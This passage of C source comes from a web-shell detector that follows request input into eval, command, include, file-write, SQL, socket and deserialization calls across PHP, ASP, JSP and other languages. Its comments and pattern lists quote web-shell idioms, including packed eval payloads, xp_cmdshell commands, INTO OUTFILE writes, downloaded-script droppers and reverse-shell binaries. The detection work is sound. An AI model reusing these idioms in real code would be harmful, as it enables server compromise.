  if (lang_span_taint(c, s, e, &t) && !(t.flags & TA_CALLED) && ((t.flags & TA_PURE) || under_web_root(c, s, e)))
    lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                  "request input %s chooses the path %s writes (line %u)", t.src, d->display, line);
  else if (has_script_ext(c, s, e) && cf_attr(c, a, b, "output", &vs, &ve) && lang_span_taint(c, vs, ve, &t))
    lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                  "request input %s is written by %s to a script file (line %u)", t.src, d->display, line);
  return 1;
}

/* A literal of st[a, b) calls SQL Server's xp_cmdshell: the statement runs an OS command. */
static int sql_runs_command(const lang_ctx *c, size_t a, size_t b) {
  for (size_t i = a; i < b && i < c->nst; i++)
    if (c->st[i].kind == TK_STR && c->st[i].len >= 11 && strcasestr(tok_text(c, &c->st[i]), "xp_cmdshell")) return 1;
  return 0;
}

/* A literal of st[a, b) writes the result of the statement to a file: INTO OUTFILE, INTO DUMPFILE (MySQL). */
static int sql_writes_file(const lang_ctx *c, size_t a, size_t b) {
  for (size_t i = a; i < b && i < c->nst; i++)
    if (c->st[i].kind == TK_STR && c->st[i].len >= 13 &&
        (strcasestr(tok_text(c, &c->st[i]), "into outfile") || strcasestr(tok_text(c, &c->st[i]), "into dumpfile")))
      return 1;
  return 0;
}

/* Reading a callback's body: eval("\$pass=\"$y\";?>" . gzinflate(base64_decode($x)))
 * runs two parameters; the one that goes through decoders is the packed
 * code the caller passes, so it is the one noted (its piece of the
 * concatenation, read alone). */
static void probe_decoded_piece(lang_ctx *c, const name_def *d, size_t a, size_t b) {
  int depth = 0;
  for (size_t i = a, from = a; i <= b; i++) {
    if (i < b && tok_opens(c, &c->st[i])) depth++;
    else if (i < b && tok_closes(c, &c->st[i])) depth--;
    if (i < b && (depth || !is_op(c, i, "."))) continue;
    taint t;
    if (from < i && lang_span_taint(c, from, i, &t) && (t.flags & TA_PARAM) && t.nchain) {
      note_param_sink(c, d, &t);
      return;
    }
    from = i + 1;
  }
}

/* The object a method call whose arguments start at st[a] is made on
 * (st.SaveToFile p or st.SaveToFile(p): st) holds request input that
 * flows.c put into it (st.WriteText Request("c")): its taint in *t. */
static int receiver_taint(lang_ctx *c, size_t a, taint *t) {
  if (a == 0) return 0;
  size_t k = a - 1;
  if (is_op(c, k, "(") && k > 0) k--;
  const token *m = &c->st[k];
  if (m->kind != TK_IDENT) return 0;
  const char *s = tok_text(c, m), *dot = memchr(s, '.', m->len);
  if (!dot || memchr(dot + 1, '.', m->len - (size_t)(dot + 1 - s))) return 0; /* obj.Method only */
  sym *o = lang_sym_get(c, s, (size_t)(dot - s), 0);
  if (!o || !o->has_taint || (o->t.flags & (TA_WEAK | TA_CALLED))) return 0;
  *t = o->t;
  return 1;
}

/* Does the page turn on Json.NET type names (TypeNameHandling.Auto, All,
 * Objects or Arrays)?  Then "$type" in the JSON picks the class to build,
 * and a gadget type runs code; with None (the default) it cannot. */
static int json_type_names(const lang_ctx *c) {
  static const char key[] = "TypeNameHandling.";
  const char *p = (const char *)c->buf, *end = p + c->len;
  while ((p = memmem(p, (size_t)(end - p), key, sizeof key - 1)) != NULL) {
    p += sizeof key - 1;
    size_t left = (size_t)(end - p);
    if ((left >= 4 && strncmp(p, "Auto", 4) == 0) || (left >= 3 && strncmp(p, "All", 3) == 0) ||
        (left >= 7 && strncmp(p, "Objects", 7) == 0) || (left >= 6 && strncmp(p, "Arrays", 6) == 0))
      return 1;
  }
  return 0;
}

/* Request input in st[a, b) that a write puts into a script as code: not a
 * value escaped for the quoted literal it sits in (TA_QUOTED, an installer's
 * setting). */
/* copy("$from/page.php", $to) in PHP: the file copied has a fixed name, the request chooses at most
 * the folder it comes from -- one of the site's own copies of that page, not content it sends */
static int copies_fixed_name(lang_ctx *c, const name_def *d, size_t a, size_t b) {
  size_t s, e;
  return c->syn == SYN_PHP && (strcmp(d->name, "copy") == 0 || strcmp(d->name, "rename") == 0) &&
         lang_arg_span(c, a, b, 1, &s, &e) && ends_fixed_name(c, s, e);
}

static int input_as_code(lang_ctx *c, const name_def *d, size_t a, size_t b, taint *t) {
  return lang_input_taint(c, d, a, b, t) && !(t->flags & TA_QUOTED);
}

/* A dangerous call d (shown as display) at line with arguments st[a, b). */
static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsigned line, size_t a,
                       size_t b) {
  taint t = {0};
  char note[200];
  size_t ulit;
  const char *ufn;
  size_t s, e;
  if (c->fn && a < b && (c->st[a].kind == TK_VAR || c->st[a].kind == TK_IDENT) && c->syn == SYN_PHP)
    lang_php_objprop_sink(c, d, a, b, line); /* $this->p, self::$p */
  if (c->fn && c->njparams && c->syn == SYN_JAVA) lang_jsp_param_sink(c, d, a, b);
  if ((d->flags & NF_TYPENAMES) && !json_type_names(c)) return;
  switch (d->id) {
  case SK_CODE:
  case SK_LOAD:
    if ((d->flags & NF_BODYONLY) && lang_span_taint(c, a, b, &t)) {
      if (t.flags & TA_BODY) /* new ObjectInputStream(request.getInputStream()) */
        lang_add_detection(c, "shellsift.lang.code-load", "webshell", 60, line,
                      "the request body %s is deserialized by %s: a gadget chain sent in it runs code (line %u)",
                      t.src, display, line);
      break;
    }
    if (d->flags & NF_BODYONLY) break;
    if (d->id == SK_LOAD && b == a + 1 && c->st[a].kind == TK_IDENT) {
      sym *up = lang_sym_get(c, tok_text(c, &c->st[a]), c->st[a].len, 0);
      if (up && up->uploaded) { /* Request.Files[0].SaveAs(p); Assembly.LoadFrom(p) */
        lang_add_detection(c, "shellsift.lang.code-load", "webshell", 90, line,
                           "an uploaded file, saved to %.40s, is loaded as code by %s (line %u)",
                           tok_text(c, &c->st[a]), display, line);
        break;
      }
    }
    /* analyze_code: Execute'd code shares the page's scope; PHP's eval inside a
     * function reads the function's variables through its parent instead */
    c->shared_next = runs_in_scope(d) && !(c->syn == SYN_PHP && (c->scope || c->fn));
    if (d->arg && lang_arg_span(c, a, b, d->arg, &s, &e)) a = s, b = e; /* the code or the path, not the arguments */
    if (c->probe && !c->probe_sink) probe_decoded_piece(c, d, a, b);
    if (lang_input_taint(c, d, a, b, &t)) {
      chain_note(&t, note, sizeof note);
      if (t.flags & TA_DECRYPT)
        lang_add_detection(c, "shellsift.lang.encrypted-channel", "webshell", 95, line,
                      "request input %s is decrypted (%s) and run as code by %s (line %u)", t.src,
                      t.via[0] ? t.via : "XOR", display, line);
      else if (d->id == SK_LOAD)
        lang_add_detection(c, "shellsift.lang.code-load", "webshell", strength(&t), line,
                      "request input %s is loaded as code by %s%s%s (line %u)", t.src, display, note,
                      called_note(&t), line);
      else
        lang_add_detection(c, "shellsift.lang.code-exec", "webshell", strength(&t), line,
                      "request input %s reaches %s%s%s (line %u)", t.src, display, note, called_note(&t), line);
    } else if (d->id == SK_CODE && (c->syn == SYN_PHP || c->st[a].nchain) && constant_code(c, a, b)) {
      run_constant_code(c, &c->st[a], display, line);
    } else if (d->id == SK_CODE && c->syn != SYN_PHP && b > a && c->st[a].kind == TK_STR &&
               !(c->st[a].flags & (TF_INTERP | TF_BINARY)) && (b == a + 1 || is_op(c, a + 1, ",")) &&
               c->st[a].len >= 3) {
      /* Execute "eval(request(""x""))": the string is code; read it */
      char prefix[160];
      snprintf(prefix, sizeof prefix, "code in a string run by %s (line %u): ", display, line);
      analyze_payload(c, tok_text(c, &c->st[a]), c->st[a].len, c->syn, prefix, line);
    } else if (d->id == SK_CODE && lang_span_taint(c, a, b, &t) && (t.flags & (TA_PACKED | TA_REMOTE | TA_SOCKET))) {
      weak_code(c, &t, display, line);
    } else if (d->id == SK_CODE && c->syn == SYN_PHP && undecoded_payload(c, a, b, &ulit, &ufn)) {
      lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                         "%s runs code unpacked at run time by %s() from a %zu-byte literal that does not decode "
                         "here (line %u)",
                         display, ufn, ulit, line);
    } else if (d->id == SK_CODE && c->syn == SYN_PHP && lang_php_decoded_code(c, a, b, 1, note, sizeof note)) {
      if (note[0] == '=')
        lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                           "%s runs code that %s decrypts at run time from an encrypted constant of the file "
                           "(line %u)", display, note + 1, line);
      else if (note[0])
        lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                           "%s runs code that the file's own decoder %s() unpacks at run time from a constant "
                           "(line %u)", display, note, line);
      else
        lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                           "%s runs code that a character loop of the file (chr, ord, XOR) unpacks at run time "
                           "from a constant (line %u)", display, line);
    } else if (b > a && c->st[a].kind != TK_STR) {
      want_repass_for(c, a, b);
      if (c->syn == SYN_JSCRIPT && d->id == SK_CODE && lang_arg_span(c, a, b, 2, &s, &e) && e == s + 1 &&
          c->st[s].kind == TK_STR && strncmp(tok_text(c, &c->st[s]), "unsafe", 6) == 0)
        lang_add_detection(c, "shellsift.lang.code-exec", "webshell", 60, line,
                      "%s runs a string with full trust (\"unsafe\", the China Chopper form) (line %u)", display,
                      line);
      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && reads_file(c, a, b))
        lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                      "%s runs code read from a file (line %u)", display, line);
      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && lang_decoded_value(c, a, b, note, sizeof note))
        lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                      "%s runs code that the page's decoder %s() returns (line %u)", display, note, line);
      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && runtime_decoded(c, a, b, note, sizeof note))
        lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                      "%s runs code that %s() builds at run time from a constant (line %u)", display, note, line);
      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && !c->dyn_line)
        c->dyn_line = line, c->dyn_display = d->display;
    }
    c->shared_next = 0;
    break;
  case SK_CMD:
    if (d->arg && lang_arg_span(c, a, b, d->arg, &s, &e)) a = s, b = e; /* exec($cmd, $output): the command */
    if (c->syn != SYN_PHP && reverse_shell(c, a, b)) {
      lang_add_detection(c, "shellsift.lang.command-exec", "webshell", 80, line,
                    "%s starts a reverse shell: the command sends a shell to a remote host (line %u)", display, line);
      break;
    }
    if (c->syn == SYN_PHP && c->fn && lang_span_taint(c, a, b, &t) && (t.flags & TA_PARAM) &&
        !input_heads_command_p(c, a, b, 1)) {
      t.flags |= TA_ARGONLY; /* function f($dir) { exec('ls ' . $dir); }: f's parameter is an argument */
      note_param_sink(c, d, &t);
      break;
    }
    if (lang_input_taint(c, d, a, b, &t)) {
      chain_note(&t, note, sizeof note);
      if (c->syn == SYN_PHP && (d->flags & NF_ARGONLY)) /* f($_GET['x']) where f runs 'ls ' . $x */
        lang_add_detection(c, "shellsift.lang.command-argument", "webshell", 35, line,
                           "request input %s reaches the arguments of a fixed command run by %s (line %u)", t.src,
                           display, line);
      else if (c->syn == SYN_PHP && !(t.flags & TA_PURE) && !input_heads_command(c, a, b))
        /* an application's command with an unescaped argument: an injection bug, not a shell */
        lang_add_detection(c, "shellsift.lang.command-argument", "webshell", 35, line,
                           "request input %s reaches the arguments of a fixed command run by %s (line %u)", t.src,
                           display, line);
      else
        lang_add_detection(c, "shellsift.lang.command-exec", "webshell", strength(&t), line,
                    "request input %s reaches %s%s%s (line %u)", t.src, display, note, called_note(&t), line);
    } else if (c->syn == SYN_PHP && lang_span_taint(c, a, b, &t) && (t.flags & TA_SOCKET)) {
      lang_add_detection(c, "shellsift.lang.reverse-shell", "webshell", 80, line,
                         "remote shell: commands received on a network socket (%s, line %u) reach %s (line %u)",
                         t.src, t.line, display, line);
    } else {
      want_repass_for(c, a, b);
    }
    break;
  case SK_CALLBACK:
    check_callback(c, d, display, line, a, b);
    break;
  case SK_INCLUDE: /* the whole path from the request: include $_GET['f'] */
    if (c->syn == SYN_PHP && lang_php_include_upload(c, display, line, a, b)) break; /* include $_FILES[..]['tmp_name'] */
    if (lang_input_taint(c, d, a, b, &t) && (t.flags & TA_PURE) && !(t.flags & TA_CALLED))
      lang_add_detection(c, "shellsift.lang.include", "webshell", 60, line,
                    "request input %s chooses the file %s loads (line %u)", t.src, display, line);
    else if (c->syn == SYN_PHP && a < b && (is_op(c, a, "(") ? a + 1 < b : 1) &&
             code_uri(c, &c->st[is_op(c, a, "(") ? a + 1 : a]) && lang_input_taint(c, d, a, b, &t))
      lang_add_detection(c, "shellsift.lang.code-exec", "webshell", 90, line,
                         "request input %s reaches %s as the content of a %.12s URI: it is run as PHP code (line %u)",
                         t.src, display, tok_text(c, &c->st[is_op(c, a, "(") ? a + 1 : a]), line);
    else if (c->syn == SYN_PHP)
      lang_php_include(c, display, line, a, b);
    break;
  case SK_WRITE:
    if (c->syn == SYN_PHP && c->method_obj && d->name[0] == '-' && strcmp(d->name, "->extractto") == 0)
      extract_upload(c, d, display, line, a, b);
    if (c->syn == SYN_PHP) {
      lang_php_write(c, d, display, line, a, b);
      /* a download written to a script: copy('http://...', 'x.php'), fwrite($script_handle, curl_exec(...)) */
      int script = d->arg ? lang_arg_span(c, a, b, d->arg, &s, &e) && has_script_ext(c, s, e)
                          : script_handle(c, a, b);
      size_t us, ue;
      if (script && strcmp(d->name, "copy") == 0 && lang_arg_span(c, a, b, 1, &us, &ue) && ue == us + 1 &&
          c->st[us].kind == TK_STR && strstr(tok_text(c, &c->st[us]), "://")) {
        t.flags = TA_REMOTE;
        snprintf(t.src, sizeof t.src, "%.70s", tok_text(c, &c->st[us]));
      }
      if (script && ((t.flags & TA_REMOTE) || (lang_span_taint(c, a, b, &t) && (t.flags & TA_REMOTE))))
        lang_add_detection(c, "shellsift.lang.dropper", "webshell", 60, line,
                           "%s writes a script downloaded from %s (line %u)", display, t.src, line);
      else if (lang_arg_span(c, a, b, 2, &s, &e) && encoded_php(c, s, e))
        lang_add_detection(c, "shellsift.lang.dropper", "webshell", 60, line,
                           "%s writes PHP code it carries encoded in a literal to a file (line %u)", display,
                           line);
      else if (lang_span_taint(c, a, b, &t) && (t.flags & TA_REMOTE))
        lang_php_paste_write(c, display, line); /* fwrite($page, curl_exec(...)) of pastebin.com/raw/... */
      else if (script && !d->arg && lang_arg_span(c, a, b, 2, &s, &e) && input_as_code(c, d, s, e, &t) &&
               !(t.flags & TA_CALLED)) /* $f = fopen(__FILE__ . 'x.php', 'w'); fputs($f, $_POST['d']) */
        lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                           "request input %s is written by %s into a script file opened for writing (line %u)",
                           t.src, display, line);
      lang_php_config_write(c, d, display, line, a, b);
      if (!d->arg) break; /* fwrite($handle, ...): no path here */
    }
    if (c->syn == SYN_CFML && cf_tag_write(c, d, line, a, b)) break;
    if (d->arg == 0) s = a, e = b; /* the object is the path: fi.CreateText() */
    else if (!lang_arg_span(c, a, b, d->arg, &s, &e)) break;
    if (e == s + 1 && c->st[s].kind == TK_IDENT && strcmp(d->name, "saveas") == 0) {
      sym *up = lang_sym_get(c, tok_text(c, &c->st[s]), c->st[s].len, 1); /* Assembly.LoadFrom(p) later */
      if (up) up->uploaded = 1;
    }
    if (strcmp(d->name, "filestream") == 0 && !opens_for_writing(c, a, b)) break;
    /* the whole path, the client's own name for the uploaded file, or a
     * request-chosen name under the web root */
    if (lang_input_taint(c, d, s, e, &t) && !(t.flags & (TA_CALLED | TA_TMPNAME)) &&
        ((t.flags & (TA_PURE | TA_UPNAME)) || under_web_root(c, s, e)) && !ends_data_ext(c, s, e)) {
      /* the client's name: Request.Files, or in classic ASP cut out of the raw body (Request.BinaryRead) */
      int client_name = (t.flags & TA_UPNAME) || ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && (t.flags & TA_BODY));
      if (client_name && !(t.flags & TA_PURE) && checks_upload_type(c))
        lang_add_detection(c, "shellsift.lang.uploader", "uploader", 35, line,
                           "request input %s names the file %s writes, but the page checks the file's extension "
                           "against a list of types first (line %u)",
                           t.src, display, line);
      else
        lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                           "request input %s chooses the path %s writes (line %u)", t.src, display, line);
    }
    else if (has_script_ext(c, s, e) && ((input_as_code(c, d, a, s, &t) && !copies_fixed_name(c, d, a, b)) ||
                                         input_as_code(c, d, e, b, &t)))
      lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                    "request input %s is written by %s to a script file (line %u)", t.src, display, line);
    else if (c->syn != SYN_PHP && has_script_ext(c, s, e) && receiver_taint(c, a, &t))
      lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                         "request input %s, put into the object, is saved by %s to a script file (line %u)", t.src,
                         display, line);
    else if (has_script_ext(c, s, e)) {
      if (!c->script_write_line) /* page_verdicts: with a fetch, a dropper */
        c->script_write_line = line, c->script_write_display = d->display;
      c->script_open = d->display; /* Set f = fso.CreateTextFile("x.asp"): f.Write of input (flows.c) */
    }
    break;
  case SK_SOCKET: /* IPAddress.Parse(...) is still the request's address: no TA_CALLED test */
    if (strcmp(d->display, "java.net.URL") == 0) { /* a fetch, not a socket: an open proxy or a flooder */
      if (lang_span_taint(c, a, b, &t) && (t.flags & TA_PURE))
        lang_add_detection(c, "shellsift.lang.tunnel", "tunnel", 55, line,
                      "request input %s chooses the URL the server fetches with %s (line %u)", t.src, display, line);
      break;
    }
    /* PHP: what a call we do not know returned, given the request's value beside others
     * (info($servers, $_GET['debug'])), is not an address the request chose */
    if (lang_input_taint(c, d, a, b, &t) &&
        !(c->syn == SYN_PHP && (t.flags & (TA_CALLED | TA_MIXED)) == (TA_CALLED | TA_MIXED)))
      lang_add_detection(c, "shellsift.lang.tunnel", "tunnel", t.flags & TA_CALLED ? 60 : 70, line,
                    "request input %s chooses where %s connects (line %u)", t.src, display, line);
    break;
  case SK_SQL:
    if (c->syn == SYN_CFML && cf_attr(c, a, b, "sql", &s, &e)) a = s, b = e; /* <cfquery>: its body */
    if (c->syn == SYN_PHP && !(d->flags & NF_CONN)) lang_php_sql_statement(c, d, a, b, display, line);
    if (!lang_span_taint(c, a, b, &t)) break; /* nothing of the request's nor a parameter's: the common case, once */
    if (lang_input_taint(c, d, a, b, &t) && sql_runs_command(c, a, b)) {
      /* "exec master..xp_cmdshell '" + x + "'": the statement is an OS command */
      lang_add_detection(c, "shellsift.lang.command-exec", "webshell", t.flags & TA_CALLED ? 65 : 90, line,
                         "request input %s reaches an operating-system command through %s and xp_cmdshell (line %u)",
                         t.src, display, line);
      break;
    }
    if (!(d->flags & NF_CONN) && lang_input_taint(c, d, a, b, &t) && !(t.flags & TA_CALLED) && sql_writes_file(c, a, b)) {
      /* "SELECT '" . $x . "' INTO OUTFILE '...'": the database server writes the request's text to a file */
      lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                         "request input %s is written to a file by %s with SELECT ... INTO OUTFILE (line %u)", t.src,
                         display, line);
      break;
    }
    for (unsigned k = 1; lang_arg_span(c, a, b, k, &s, &e); k++)
      if (lang_input_taint(c, d, s, e, &t) && (t.flags & TA_PURE) && !(t.flags & TA_CALLED)) {
        if (!lang_php_sql_method(c, d)) break; /* $dns->query($host): not a database's */
        if (d->flags & NF_CONN) /* dual-use, as a database console is: medium */
          lang_add_detection(c, "shellsift.lang.sql-console", "webshell", 50, line,
                             "request input %s chooses the database %s connects to (line %u)", t.src, display, line);
        else
          lang_add_detection(c, "shellsift.lang.sql-console", "webshell", 50, line,
                             "request input %s is run as a whole SQL statement by %s (line %u)", t.src, display, line);
        break;
      }
    break;
  case SK_READ: /* the path, whole, from the request: a file reader (new StreamReader(Request["f"])) */
    if (lang_arg_span(c, a, b, d->arg ? d->arg : 1, &s, &e) && lang_input_taint(c, d, s, e, &t) &&
        (t.flags & TA_PURE) && !(t.flags & (TA_CALLED | TA_BODY)) && !strcasestr(t.src, "stream") &&
        !strcasestr(t.src, "files") && !under_web_root(c, s, e)) /* Server.MapPath("docs/" & f): the site's own */
      lang_add_detection(c, "shellsift.lang.file-read", "hacktool", 55, line,
                         "file reader: request input %s chooses the file %s reads (line %u; MITRE ATT&CK T1005)",
                         t.src, display, line);
    break;
  case SK_PREG: {
    if (!lang_arg_span(c, a, b, 1, &s, &e)) break;
    int mb = strncmp(d->name, "mb_", 3) == 0;
    int evals = mb ? mb_eval_mode(c, a, b) : preg_eval_pattern(c, s, e);
    size_t rs, re;
    if (evals && lang_input_taint(c, d, e, b, &t)) {
      lang_add_detection(c, "shellsift.lang.code-exec", "webshell", 90, line,
                         "request input %s reaches %s (line %u)", t.src, display, line);
    } else if (evals && lang_arg_span(c, a, b, 2, &rs, &re) && constant_code(c, rs, re)) {
      run_constant_code(c, &c->st[rs], display, line); /* the replacement is code */
    } else if (evals && lang_arg_span(c, a, b, 2, &rs, &re) && re > rs + 1 && c->st[rs].kind == TK_STR &&
               !(c->st[rs].flags & TF_INTERP) && unpacks_code(tok_text(c, &c->st[rs]), c->st[rs].len)) {
      /* '/x/e', 'eval(gzuncompress(base64_decode(\'' . decode(...) . '\')))': a payload put together at run time */
      lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                         "%s runs code it assembles at run time: eval() of a decoder's output (line %u)", display,
                         line);
    } else if (!mb && !(e == s + 1 && c->st[s].kind == TK_STR) && lang_input_taint(c, d, s, e, &t)) {
      lang_add_detection(c, "shellsift.lang.code-exec", "webshell", 80, line,
                    "request input %s chooses the pattern and modifiers of %s (line %u)", t.src, display, line);
    }
    break;
  }
  default: break;
  }
}

/* The call name st[i] stands for: a method on a typed variable or on an
 * object just created resolves to "type.method". */
static int resolve_call(lang_ctx *c, size_t i, char *out, size_t outsz) {
  const token *t = &c->st[i];
  const char *s = tok_text(c, t);
  const char *dot = memchr(s, '.', t->len);
  if (dot) {
    sym *sy = lang_sym_get(c, s, (size_t)(dot - s), 0);
    if (sy && sy->has_type) {
      snprintf(out, outsz, "%s%s", c->persist.buf + sy->type_off, dot);
      return 1;
    }
  }
  if (i >= 2 && is_op(c, i - 1, ".") && is_op(c, i - 2, ")")) {
    /* X(...).name: X's type */
    int depth = 0;
    for (size_t k = i - 2;; k--) {
      if (is_op(c, k, ")")) depth++;
      else if (is_op(c, k, "(") && --depth == 0) {
        char type[64];
        if (k > 0 && creator_type(c, k - 1, type, sizeof type)) {
          snprintf(out, outsz, "%s.%s", type, s);
          return 1;
        }
        break;
      }
      if (k == 0) break;
    }
  }
  return 0;
}

static int is_keyword_before_call(const lang_ctx *c, const token *p) {
  static const char *const ok[] = {"return", "else", "await", "throw", "yield", "echo", "print", "do",
                                   "then",   "call", "and",   "or",    "not",   "in"}; /* foreach (var o in f(...)) */
  for (size_t k = 0; k < sizeof ok / sizeof ok[0]; k++)
    if (tok_is(c, p, TK_IDENT, ok[k])) return 1;
  return 0;
}

static void bloom_wrapper(lang_ctx *c, const char *name) {
  c->sink_wrappers = 1;
  c->sink_bloom |= 1ull << (((unsigned char)name[0] ^ strlen(name) * 7u) & 63u);
}

static void note_wrapper_sink(lang_ctx *c, const name_def *d) {
  if (c->fn && (d->id == SK_CODE || d->id == SK_CMD || d->id == SK_LOAD ||
                ((d->id == SK_SQL || d->id == SK_SOCKET) && c->syn != SYN_PHP)) &&
      !c->wrappers[c->fn - 1].sink) {
    c->wrappers[c->fn - 1].sink = d;
    bloom_wrapper(c, c->wrappers[c->fn - 1].name);
  }
}

/* A new, empty function of the file named name[0, n), or NULL when there is no room. */
static void note_wrapper_name(lang_ctx *c, const wrapper *w) {
  unsigned bit = lang_name_bit(w->name, strlen(w->name));
  lang_bloom_add(c->wrapper_bloom, bit);
}

static wrapper *new_wrapper(lang_ctx *c, const char *name, size_t n) {
  if (c->nwrappers >= MAX_WRAPPERS || n == 0 || n >= sizeof c->wrappers[0].name) return NULL;
  wrapper *w = &c->wrappers[c->nwrappers++];
  memset(w, 0, sizeof *w);
  memcpy(w->name, name, n);
  w->name[n] = '\0';
  note_wrapper_name(c, w);
  return w;
}

void lang_sink_wrapper(lang_ctx *c, const char *name, size_t n, const name_def *d) {
  wrapper *w = new_wrapper(c, name, n);
  if (!w) return;
  w->sink = d;
  bloom_wrapper(c, w->name);
}

void lang_return_wrapper(lang_ctx *c, const char *name, size_t n, const taint *t) {
  wrapper *w = new_wrapper(c, name, n);
  if (!w) return;
  w->returns = 1;
  w->ret = *t;
  unsigned bit = lang_name_bit(w->name, n);
  if (lang_bloom_has(c->called_bloom, bit)) c->late_wrapper = 1; /* called before: read the calls again */
}

void lang_alias_wrapper(lang_ctx *c, const char *from, const char *to, size_t ton) {
  if (c->nwrappers >= MAX_WRAPPERS || ton == 0 || ton >= sizeof c->wrappers[0].name) return;
  for (size_t k = 0; k < c->nwrappers; k++) {
    if (!c->wrappers[k].sink || strcmp(c->wrappers[k].name, from) != 0) continue;
    wrapper *w = &c->wrappers[c->nwrappers++];
    *w = c->wrappers[k];
    memcpy(w->name, to, ton);
    w->name[ton] = '\0';
    note_wrapper_name(c, w);
    bloom_wrapper(c, w->name);
    return;
  }
}

/* A capability call d with arguments st[a, b): noted, fed if the argument
 * it acts on carries request input or a function's parameter. */
static void note_capability(lang_ctx *c, const name_def *d, unsigned line, size_t a, size_t b) {
  int arg, cap = lang_php_caps_of(d, &arg);
  if (cap < 0) return;
  size_t s = a, e = b;
  if (cap == PCAP_EVAL && b == a + 1 && c->st[a].kind == TK_STR) return; /* a constant: not a console */
  taint t;
  if (cap == PCAP_MAIL || cap == PCAP_NET) c->mail_file = 1; /* php_mailer.c reads statements from here on */
  int fed = arg && lang_arg_span(c, a, b, (unsigned)arg, &s, &e) && lang_span_taint(c, s, e, &t) &&
            !(t.flags & (TA_SERVER | TA_PACKED | TA_REMOTE));
  if (cap == PCAP_MAIL && fed) /* a mass mailer: the request chooses the recipients, the subject and the body */
    for (unsigned k = 2; k <= 3 && fed; k++)
      fed = lang_arg_span(c, a, b, k, &s, &e) && lang_span_taint(c, s, e, &t) && !(t.flags & TA_WEAK);
  if (fed && (t.flags & TA_PARAM)) { /* fed when the function is called with request input */
    if (c->fn) c->wrappers[c->fn - 1].pcaps |= (uint16_t)(1u << cap), c->cap_wrappers = 1;
    fed = 0;
  }
  lang_php_caps_note(c, (unsigned)cap, fed, line, d->name);
}

/* Java and C#: a socket opened and a process started are what a reverse
 * or bind shell is made of (new Socket(host, port) with the shell's
 * streams pumped to it, host and port often constants); with a command
 * shell named in the file, php_caps.c judges the pair as it does PHP's. */
static void note_java_shell_part(lang_ctx *c, const name_def *d, unsigned line, size_t a, size_t b) {
  static const char *const shells[] = {"sh", "bash", "dash", "zsh", "ksh", "cmd", "cmd.exe", "powershell", "powershell.exe"};
  int sock = d->id == SK_SOCKET && (strstr(d->name, "socket") || strstr(d->name, "tcpclient"));
  if (d->id != SK_CMD && !sock) return;
  for (size_t i = a; d->id == SK_CMD && c->pcaps && i < b && i < a + 16; i++) { /* the shell itself, folded */
    if (c->st[i].kind != TK_STR || c->st[i].len > 40) continue;
    const char *p = tok_text(c, &c->st[i]), *slash = strrchr(p, '/'), *bs = strrchr(p, '\\');
    const char *base = bs > slash ? bs + 1 : slash ? slash + 1 : p;
    for (size_t k = 0; k < sizeof shells / sizeof shells[0]; k++)
      if (strcasecmp(base, shells[k]) == 0) c->pcaps->shell = 1;
  }
  char fn[28];
  size_t n = strlen(d->display);
  if (n >= 2 && d->display[n - 1] == ')' && d->display[n - 2] == '(') n -= 2; /* the judge adds "()" */
  snprintf(fn, sizeof fn, "%.*s", (int)(n < sizeof fn ? n : sizeof fn - 1), d->display);
  lang_php_caps_note(c, sock ? PCAP_NET : PCAP_CMD, 0, line, fn);
}

/* A call of a function of this file whose parameters feed capabilities:
 * request input passed to it feeds them. */
static void note_capability_call(lang_ctx *c, const char *name, unsigned line, size_t a, size_t b) {
  if (!lang_maybe_wrapper(c, name, strlen(name))) return;
  for (size_t k = 0; k < c->nwrappers; k++) {
    const wrapper *w = &c->wrappers[k];
    if (!w->pcaps || w->name[0] != name[0] || strcmp(w->name, name) != 0) continue;
    taint t;
    if (!lang_input_taint(c, NULL, a, b, &t)) return;
    for (unsigned cap = 0; cap < PCAP_COUNT; cap++)
      if (w->pcaps >> cap & 1u) lang_php_caps_note(c, cap, 1, line, w->name);
    return;
  }
}

/* A call of a function of this file that hands a parameter to a sink:
 * *wd becomes that sink and *row its table row, the arguments [*a, *b) the
 * one that reaches it (decoded as the function decodes it: that may move
 * the arena a token's text lives in, so name is not read after it). */
static int wrapper_call(lang_ctx *c, const char *name, size_t *a, size_t *b, name_def *wd, const name_def **row,
                        char *via, size_t viasz) {
  if (!c->sink_wrappers || !(c->sink_bloom >> (((unsigned char)name[0] ^ strlen(name) * 7u) & 63u) & 1u)) return 0;
  for (size_t k = 0; k < c->nwrappers; k++) {
    const wrapper *w = &c->wrappers[k];
    if (!w->sink || w->name[0] != name[0] || strcmp(w->name, name) != 0 || (int)k + 1 == c->fn) continue;
    size_t ps, pe;
    const name_def *sink = w->sink;
    *wd = *sink;
    if (sink->id == SK_CMD && (w->sink_flags & TA_ARGONLY)) wd->flags |= NF_ARGONLY;
    snprintf(via, viasz, " (inside %s())", name);
    if (w->sink_param && c->syn == SYN_PHP) { /* only the parameter that reaches it */
      if (!lang_arg_span(c, *a, *b, w->sink_param, &ps, &pe)) return 0;
      *a = ps, *b = pe, wd->arg = 0;
      if (pe == ps + 1 && w->nsink_chain) decode_through(c, ps, w->sink_chain, w->nsink_chain); /* its decoders first */
    }
    *row = sink;
    return 1;
  }
  return 0;
}

/* VB: obj.Name = x at the statement's start runs the class's Property Let
 * Name(v) when that hands v to a sink.  Out of line: find_sinks runs for
 * every token, and this only for the first of a VB statement. */
__attribute__((noinline)) static int vb_property_let(lang_ctx *c) {
